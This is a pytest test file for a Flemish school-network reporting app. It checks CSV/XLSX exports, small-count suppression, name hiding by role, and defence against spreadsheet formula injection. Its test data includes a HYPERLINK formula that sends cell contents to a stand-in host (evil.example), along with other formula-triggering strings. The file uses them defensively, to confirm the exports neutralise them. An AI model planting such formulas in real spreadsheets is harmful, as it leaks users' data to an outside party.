"""Exports read back cell by cell: CSV with the csv module, XLSX with openpyxl."""

import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from netwerk.extensions import db
from netwerk.reports.exports import (
    COUNT,
    DATE,
    DECIMAL,
    PERCENT,
    Column,
    ReportTable,
    to_csv,
    to_xlsx,
)
from netwerk.schools.models import School
from tests.reports.conftest import P

SOURCE = "bron: gegevens 19/11/2021 - Vlaams Ministerie van Onderwijs en Vorming"
# A report known now: the source line carries the moment (Brussels, to the minute).
SOURCE_NOW = re.compile(
    r"bron: gegevens 19/11/2021, stand van de gegevens (\d\d/\d\d/\d{4} \d\d:\d\d) - "
    "Vlaams Ministerie van Onderwijs en Vorming"
)


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _xlsx(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return wb, wb.active


def _inst(app, *ids) -> list[str]:
    with app.app_context():
        return [db.session.get(School, i).institution_number for i in ids]


def _expected_participation(app, data) -> list[list]:
    """The participation report on P as rows, made by hand (see conftest)."""
    a1, a2, a3, a4 = _inst(app, data.A1, data.A2, data.A3, data.A4)
    b, s = "basisonderwijs", "secundair onderwijs"
    return [
        [b, "VBS De Ark Heverlee", a4, "Netwerk De Ark", 3],
        [b, "Totaal", None, "inschrijvingen", 3],
        [b, "Totaal", None, "verschillende scholen", 3],
        [s, "GO! Atheneum Geraardsbergen", a2, "Netwerk Leuven-Geraardsbergen *", 2],
        [s, "Scholengemeenschap SO Leuven", a3, "Netwerk Leuven-Geraardsbergen *", 2],
        [s, "Sint-Jozef Humaniora Brugge", a1, "Netwerk Brugge 1", 2],
        [s, "Sint-Jozef Humaniora Brugge", a1, "Netwerk Brugge 2", 2],
        [s, "Sint-Jozef Humaniora Brugge", a1, "Subtotaal ankerschool", 4],
        [s, "Totaal", None, "inschrijvingen", 6],
        [s, "Totaal", None, "verschillende scholen", 4],
        ["Alle niveaus", "Totaal", None, "inschrijvingen", 9],
        ["Alle niveaus", "Totaal", None, "verschillende scholen", 7],
    ]


HEADERS = [
    "Niveau",
    "Ankerschool",
    "Instellingsnummer ankerschool",
    "Netwerk",
    "Aantal ingeschreven scholen",
]


def test_participation_csv_cell_by_cell(app, client, data, login_as):
    """Title, peildatum, source, notes, a blank line, the header row, then every row."""
    login_as("admin")
    response = client.get("/rapporten/deelname?as_of=19/11/2021&format=csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert (
        response.headers["Content-Disposition"] == 'attachment; filename="deelname_2021-11-19.csv"'
    )
    rows = _csv_rows(response.data)
    assert rows[0] == ["Deelname per ankerschool"]
    assert rows[1] == ["Peildatum", "19/11/2021"]
    assert rows[2][0] == "Stand van de gegevens"
    assert SOURCE_NOW.fullmatch(rows[3][0]).group(1) == rows[2][1]
    blank = rows.index([])
    # The basis line has one colon: "Basis: ingeschreven (...)", never "Basis: ingeschreven: ...".
    assert rows[4] == ["Basis: ingeschreven (inschrijving aanvaard op de peildatum)"]
    assert rows[blank + 1] == HEADERS
    expected = [
        ["" if v is None else str(v) for v in row] for row in _expected_participation(app, data)
    ]
    assert rows[blank + 2 :] == expected


def test_participation_xlsx_cell_by_cell(app, client, data, login_as):
    """Typed cells: counts are integers, the peildatum a date; bold frozen header row; widths."""
    login_as("ministry")
    response = client.get("/rapporten/deelname?as_of=2021-11-19&format=xlsx")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    wb, ws = _xlsx(response.data)
    assert ws["A1"].value == "Deelname per ankerschool" and ws["A1"].font.b
    assert ws["A2"].value == "Peildatum"
    assert isinstance(ws["B2"].value, datetime) and ws["B2"].value.date() == P
    assert ws["B2"].number_format == "DD/MM/YYYY"
    assert ws["A3"].value == "Stand van de gegevens"
    assert isinstance(ws["B3"].value, datetime) and ws["B3"].number_format == "DD/MM/YYYY HH:MM"
    assert SOURCE_NOW.fullmatch(ws["A4"].value)
    header = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == "Niveau")
    assert [ws.cell(header, c).value for c in range(1, 6)] == HEADERS
    assert all(ws.cell(header, c).font.b for c in range(1, 6))
    assert ws.freeze_panes == f"A{header + 1}"
    got = [[ws.cell(r, c).value for c in range(1, 6)] for r in range(header + 1, ws.max_row + 1)]
    assert got == _expected_participation(app, data)
    assert all(type(row[4]) is int for row in got)
    assert ws.cell(header + 1, 5).number_format == "#,##0"
    assert ws.column_dimensions["B"].width >= len("Scholengemeenschap SO Leuven")
    wb.close()


def test_publication_export_has_no_participating_school_names(app, client, data, login_as):
    """Anchor names stay (public); counts below 5 become '< 5'; lists carry codes only."""
    login_as("admin")
    csv_data = client.get("/rapporten/deelname?as_of=19/11/2021&format=csv&publication=1")
    assert csv_data.headers["Content-Disposition"].endswith('deelname_publicatie_2021-11-19.csv"')
    rows = _csv_rows(csv_data.data)
    text = csv_data.data.decode("utf-8-sig")
    assert "Deelnemer" not in text
    assert "Sint-Jozef Humaniora Brugge" in text
    blank = rows.index([])
    counts = [row[4] for row in rows[blank + 2 :]]
    # M3: secondary 6 = 2 + 2 + 2 and all levels 9 = 3 + 6 would give the hidden counts back.
    assert counts == ["< 5"] * 8 + ["x", "< 5", "x", "x"]
    assert any("Publicatieversie" in row[0] for row in rows[:blank])
    assert any("staat als 'x'" in row[0] for row in rows[:blank])

    xlsx = client.get("/rapporten/deelname?as_of=19/11/2021&format=xlsx&publication=1")
    wb, ws = _xlsx(xlsx.data)
    values = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
    assert not any("Deelnemer" in str(v) for v in values)
    assert "< 5" in values and "x" in values and 6 not in values
    wb.close()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_publication_list_refused_behind_a_total_or_a_small_count(app, client, data, login_as, fmt):
    """M3: a list's length is a count: refused behind a total and below the threshold."""
    login_as("admin")
    base = f"/rapporten/deelname/scholen?as_of=19/11/2021&format={fmt}&publication=1"
    behind_total = client.get(base + "&level=secundair")
    assert behind_total.status_code == 400
    assert "enkel voor één netwerk en één niveau" in behind_total.get_data(as_text=True)
    small = client.get(base + f"&level=secundair&network_id={data.N1}")
    assert small.status_code == 422
    body = small.get_data(as_text=True)
    assert "minder dan 5 scholen" in body and "S-R" not in body
    full = client.get(base.replace("&publication=1", "") + f"&level=secundair&network_id={data.N1}")
    assert full.status_code == 200  # the ordinary export of the same list stays
    page = client.get("/rapporten/deelname/scholen?as_of=19/11/2021&level=secundair")
    assert "publication=1" not in page.get_data(as_text=True)  # no link that would be refused
    page = client.get(
        f"/rapporten/deelname/scholen?as_of=19/11/2021&network_id={data.N1}&level=secundair"
    )
    assert "publication=1" in page.get_data(as_text=True)


def test_list_export_admin_has_names_and_typed_dates(app, client, data, login_as):
    """The list behind N1: names for admins, the acceptance date as a real date."""
    login_as("admin")
    response = client.get(
        f"/rapporten/deelname/scholen?as_of=19/11/2021&network_id={data.N1}&level=secundair&format=xlsx"
    )
    wb, ws = _xlsx(response.data)
    header = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == "Schoolcode")
    heads = [ws.cell(header, c).value for c in range(1, ws.max_column + 1)]
    assert heads[:4] == ["Schoolcode", "School", "Instellingsnummer", "Gemeente"]
    rows = [
        [ws.cell(r, c).value for c in range(1, ws.max_column + 1)]
        for r in range(header + 1, ws.max_row + 1)
    ]
    assert [row[1] for row in rows] == ["Deelnemer S1", "Deelnemer S2"]
    networks_col, since_col = (
        heads.index("Aantal netwerken in dit rapport"),
        heads.index("Aanvaard sinds"),
    )
    assert [row[networks_col] for row in rows] == [2, 1]
    assert all(isinstance(row[since_col], datetime) for row in rows)
    assert rows[0][since_col].date() == date(2021, 6, 15)
    wb.close()


def test_ministry_list_export_has_codes_only(app, client, data, login_as):
    """The ministry's own (non-publication) list export carries no names either."""
    login_as("ministry")
    response = client.get(
        f"/rapporten/deelname/scholen?as_of=19/11/2021&network_id={data.N1}&level=secundair&format=csv"
    )
    body = response.data.decode("utf-8-sig")
    assert response.status_code == 200
    assert "Deelnemer" not in body and "Schoolcode" in body


def test_reach_and_trend_exports(app, client, data, login_as):
    """Reach: percentages as fractions with a % format; trends: hours as decimals."""
    login_as("ministry")
    response = client.get("/rapporten/bereik?as_of=19/11/2021&level=secundair&format=xlsx")
    wb, ws = _xlsx(response.data)
    header = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == "Periode")
    rows = [[ws.cell(r, c) for c in range(1, 7)] for r in range(header + 1, ws.max_row + 1)]
    assert [r[0].value for r in rows] == ["2020-2021", "2021-2022", "cumulatief tot 19/11/2021"]
    assert [(r[3].value, r[4].value) for r in rows] == [(5, 12), (5, 12), (6, 12)]
    assert rows[0][5].value == pytest.approx(0.417) and rows[0][5].number_format == "0.0%"
    assert rows[2][5].value == pytest.approx(0.5)
    assert isinstance(rows[0][1].value, datetime) and rows[0][1].value.date() == date(2020, 9, 1)
    wb.close()

    csv_rows = _csv_rows(
        client.get("/rapporten/bereik?as_of=19/11/2021&level=secundair&format=csv").data
    )
    assert csv_rows[-1] == ["cumulatief tot 19/11/2021", "", "19/11/2021", "6", "12", "50,0"]

    hours = client.get("/rapporten/evolutie?as_of=19/11/2021&format=csv&table=hours")
    assert hours.status_code == 200
    rows = _csv_rows(hours.data)
    assert rows[-2:] == [["2020-2021", "1,5", "90"], ["2021-2022", "3,0", "180"]]
    anchors = _csv_rows(
        client.get("/rapporten/evolutie?as_of=19/11/2021&format=csv&table=anchors").data
    )
    assert ["Sint-Jozef Humaniora Brugge", "3"] in anchors
    reg = client.get(
        "/rapporten/evolutie?as_of=19/11/2021&period=year&format=xlsx&table=registrations"
    )
    wb, ws = _xlsx(reg.data)
    last = [ws.cell(ws.max_row, c).value for c in range(1, 4)]
    assert last[0].date() == P and last[1:] == [9, 7]
    wb.close()


def test_publication_hides_percentage_next_to_a_hidden_count(ctx):
    """A '< 5' count would be given away by its percentage: the percentage goes too."""
    table = ReportTable(
        title="Bereik",
        as_of=P,
        source=SOURCE,
        columns=[Column("Periode"), Column("n", COUNT), Column("N", COUNT), Column("%", PERCENT)],
        rows=[
            ["a", 3, 40, Decimal("7.5")],
            ["b", 0, 40, Decimal("0.0")],
            ["c", 20, 40, Decimal("50.0")],
        ],
    )
    with __import__("flask").current_app.test_request_context():
        published = table.for_publication(5)
        assert published.rows == [
            ["a", "< 5", 40, None],
            ["b", 0, 40, Decimal("0.0")],
            ["c", 20, 40, Decimal("50.0")],
        ]
        csv_rows = _csv_rows(to_csv(published))
        assert csv_rows[-3:] == [
            ["a", "< 5", "40", ""],
            ["b", "0", "40", "0,0"],
            ["c", "20", "40", "50,0"],
        ]
        wb, ws = _xlsx(to_xlsx(published))
        assert ws.cell(ws.max_row - 2, 2).value == "< 5"
        assert ws.cell(ws.max_row, 4).value == pytest.approx(0.5)
        wb.close()


def test_xlsx_types_of_every_kind(ctx):
    """Dates, decimals and text come back as the types Excel shows them as."""
    table = ReportTable(
        title="Soorten: [test]/?",
        as_of=P,
        source=SOURCE,
        columns=[Column("Dag", DATE), Column("Uren", DECIMAL), Column("Tekst")],
        rows=[[date(2021, 9, 1), Decimal("2.5"), "één"]],
    )
    with __import__("flask").current_app.test_request_context():
        wb, ws = _xlsx(to_xlsx(table))
        assert ws.title == "Soorten   test"
        row = [c.value for c in ws[ws.max_row]]
        assert row[0] == datetime(2021, 9, 1) and row[1] == 2.5 and row[2] == "één"
        assert ws.cell(ws.max_row, 2).number_format == "#,##0.0##"
        wb.close()
        assert _csv_rows(to_csv(table))[-1] == ["01/09/2021", "2,5", "één"]


HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A2,"Klik")', "+32 1", "-2+3", "@SUM(A1)", "\t=1"]


def test_formula_like_text_is_never_a_formula(ctx):
    """M4: CSV prefixes text that could start a formula with "'"; XLSX types it as a string."""
    table = ReportTable(
        title="=titel",
        as_of=P,
        source=SOURCE,
        columns=[Column("Naam"), Column("n", COUNT), Column("Verschil", DECIMAL)],
        rows=[[name, -3, Decimal("-1.5")] for name in HOSTILE],
        notes=["@notitie"],
    )
    with __import__("flask").current_app.test_request_context():
        csv_rows = _csv_rows(to_csv(table))
        assert csv_rows[0] == ["'=titel"] and csv_rows[3] == ["'@notitie"]
        assert csv_rows[-len(HOSTILE) :] == [["'" + name, "-3", "-1,5"] for name in HOSTILE]
        wb, ws = _xlsx(to_xlsx(table))
        cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert ws["A1"].value == "=titel"
        got = [[c.value for c in row] for row in ws.iter_rows(min_row=ws.max_row - 4)]
        assert got == [[name, -3, -1.5] for name in HOSTILE]
        wb.close()


def test_participating_basis_names_the_count_and_has_one_colon(app, client, data, login_as):
    """On the participating basis the header says 'deelnemende scholen', page and CSV alike."""
    login_as("admin")
    url = "/rapporten/deelname?as_of=19/11/2021&basis=participating"
    rows = _csv_rows(client.get(url + "&format=csv").data)
    basis = next(r[0] for r in rows if r and r[0].startswith("Basis"))
    assert basis.count(":") == 1 and basis.startswith("Basis: deelnemend (")
    assert rows[rows.index([]) + 1][-1] == "Aantal deelnemende scholen"
    page = client.get(url).get_data(as_text=True)
    assert "Aantal deelnemende scholen" in page and "Aantal ingeschreven scholen" not in page
